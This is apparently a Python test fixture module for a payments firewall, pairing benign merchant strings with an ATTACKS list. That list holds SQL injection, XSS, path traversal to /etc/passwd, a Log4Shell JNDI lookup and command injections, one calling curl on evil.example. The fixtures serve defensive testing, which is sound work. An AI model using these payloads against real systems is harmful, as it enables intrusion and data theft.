"""Requests as merchants send them, and as attackers do."""

import json
from typing import Any

from services.firewall.domain import Request

PAN = "4111111111111111"
HEADERS = {
    "host": "florin.example",
    "user-agent": "python-httpx/0.28.1",
    "accept": "*/*",
    "accept-encoding": "gzip, deflate, br",
    "content-type": "application/json",
    "idempotency-key": "order-1001",
}
PAYMENT: dict[str, Any] = {
    "reference": "order-1001",
    "amount": {"amount_minor": 49900, "currency": "INR"},
    "card": {"number": PAN, "expiry_month": 12, "expiry_year": 2030, "cvv": "123"},
}

PLAIN = [
    "Siobhan O'Brien",
    "D'Souza & Sons",
    "Men's and women's shirts; don't fold",
    "Rock 'n' Roll T-shirt",
    "5'10\" mirror",
    "Two tickets, row 7; thanks & see you",
    "Order #1001 (50% off) -- today only!",
    "100% cotton; size M/L, price < 500",
    "select one of the drops at table 5",
    "Union Square table for 2, and drop off at 5",
    "1 or 2 items",
    "update my profile, delete old items",
    "admin's choice",
    "Robert Tables",
    "आदर्श शर्मा की दुकान",
    "हिन्दी पाठ: दो टिकट, धन्यवाद!",
    "தமிழ் கடை",
    "北京烤鸭 x2",
    "مرحبا بالعالم",
    "Jeanne d'Arc, 's-Hertogenbosch",
    "Thé glacé à l'orange 🎉",
    "user@example.com +91 98765 43210",
    "https://shop.example/return?order=1&x=y",
    "INV/2026/11-0001",
    "C++ book",
]

ATTACKS = [
    "1' or '1'='1",
    "x' union select card_number from cards--",
    "1; drop table payments",
    "Robert'); DROP TABLE students;--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "${jndi:ldap://evil.example/a}",
    "; cat /etc/passwd",
    "$(curl http://evil.example)",
]


def post(content: Any, path: str = "/v1/payments", **headers: str) -> Request:
    body = content if isinstance(content, bytes) else json.dumps(content, ensure_ascii=False).encode()
    return Request("POST", path, HEADERS | headers, body)


def get(path: str, **headers: str) -> Request:
    sent = {name: value for name, value in HEADERS.items() if name not in {"content-type", "idempotency-key"}}
    return Request("GET", path, sent | headers, b"")
